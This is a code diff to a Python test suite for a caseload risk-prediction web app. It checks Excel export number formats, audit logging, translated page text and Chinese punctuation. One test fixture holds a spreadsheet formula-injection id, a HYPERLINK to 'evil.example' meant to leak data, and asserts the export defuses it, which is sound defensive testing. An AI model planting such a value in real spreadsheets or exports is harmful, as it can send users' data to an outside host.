@@ -12,6 +12,7 @@ from pathlib import Path
 
 import httpx
 import numpy as np
+import openpyxl
 import pandas as pd
 import pytest
 from babel.messages.extract import extract_from_dir
@@ -21,7 +22,7 @@ from features.storage.store import Store
 from features.tasks import get_task
 from serving.state.caseload import month_before
 from serving.state.history import history_dates
-from serving.web.caseload_pages import percent, workbook
+from serving.web.caseload_pages import percent, workbook, workbook_bytes
 from serving.web.i18n import Texts, catalogue
 
 CSRF = re.compile(r'name="csrf" value="([^"]+)"')
@@ -219,8 +220,9 @@ def test_export_is_the_filtered_list_in_the_users_language_and_audited(service, 
     assert list(book["人员"]) == list(expected.index)  # every page, not just the first
     assert list(book.columns[:4]) == ["排名", "人员", "区县", "风险等级"]
     assert set(book["区县"]) == {"花溪区"}
-    # each probability to four significant digits, as the state holds it
-    assert np.allclose(book["概率"], expected["probability"], rtol=5e-4, atol=0)
+    # each probability as the state holds it (shown as a percentage), the rank as the page
+    assert np.allclose(book["概率"], expected["probability"], rtol=1e-12, atol=0)
+    assert list(book["在同类人员中的排位"]) == [Texts("zh").top_share(p) for p in expected["percentile"]]
     audit = sqlite3.connect(service["audit"])
     rows = audit.execute(
         "SELECT person_id, tier, request_id FROM audit WHERE route = '/app/caseload.xlsx' "
@@ -248,8 +250,8 @@ def test_person_page_and_not_found_are_as_the_api_decides(service, signin):
     texts = Texts("zh")
     assert texts.risk_sentence(api["tier"], api["percentile"]) in page.text
     assert f"{api['probability'] * 100:.1f}%" in page.text
-    for factor in api["factors"]:
-        assert factor["label_zh"] in page.text
+    for factor in api["factors"]:  # in plain words, each with what it does to the risk
+        assert factor["text_zh"] in page.text and factor["effect_zh"] in page.text
     for option in api["support"]:
         assert option["zh"] in page.text
     assert "绝不作为处罚" in page.text  # the standing notice
@@ -334,9 +336,21 @@ def test_the_workbook_never_writes_a_small_probability_as_zero():
         index=pd.Index(["p1", '=HYPERLINK("http://evil.example/?leak","open")']),
     )
     book = workbook(rows, Texts("en"))
-    assert list(book["Probability"]) == [0.8765, 0.00001235]  # not 0.0: "no risk"
     # an id a spreadsheet would run (the contract refuses such ids; defused all the same)
     assert list(book["Person"]) == ["p1", '\'=HYPERLINK("http://evil.example/?leak","open")']
+    # the same share above as the page says, never "100"
+    assert list(book["Rank among comparable persons"]) == ["top 1%", "top 97%"]
+    assert list(book["Last social-worker contact"]) == ["1 Jan 2025", "none recorded"]
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book, Texts("en"), "x" * 40))).active
+    assert sheet.title == "x" * 31
+    header = [c.value for c in sheet[1]]
+    probability = sheet.cell(2, header.index("Probability") + 1)
+    tiny = sheet.cell(3, header.index("Probability") + 1)
+    change = sheet.cell(2, header.index("Change since last month") + 1)
+    # the figures themselves, shown as percentages; the tiny one as "<0.1%", not 0.0%
+    assert (probability.value, tiny.value, change.value) == (0.8765432, 0.0000123456, 0.01)
+    assert probability.number_format == tiny.number_format == '[<0.0005]"<0.1%";0.0%'
+    assert change.number_format == "+0.0%;-0.0%;0.0%"
 
 
 def test_followups_are_recorded_shown_audited_and_exported_as_contract_events(
@@ -470,7 +484,12 @@ def test_the_catalogue_translates_every_message_of_the_pages():
     assert sorted(found - set(zh)) == []
     assert sorted(set(zh) - found) == []
     texts = Texts("zh")
-    assert texts.risk_sentence("high", 91.2) == "高风险:在同类人员中排名前 9%"
+    assert texts.risk_sentence("high", 91.2) == "高风险：在同类人员中排名前 9%"
+    # Chinese text takes full-width punctuation: no half-width comma, colon, semicolon,
+    # bracket, exclamation or question mark (placeholders such as %(n)s aside)
+    for message, chinese in zh.items():
+        bare = re.sub(r"%\(\w+\)[sdf]|%%", "", chinese)
+        assert not re.search(r"[,:;()!?]", bare), (message, chinese)
     assert Texts("en").risk_sentence("low", 20.0) == (
         "Low risk: higher than 20% of comparable persons"
     )
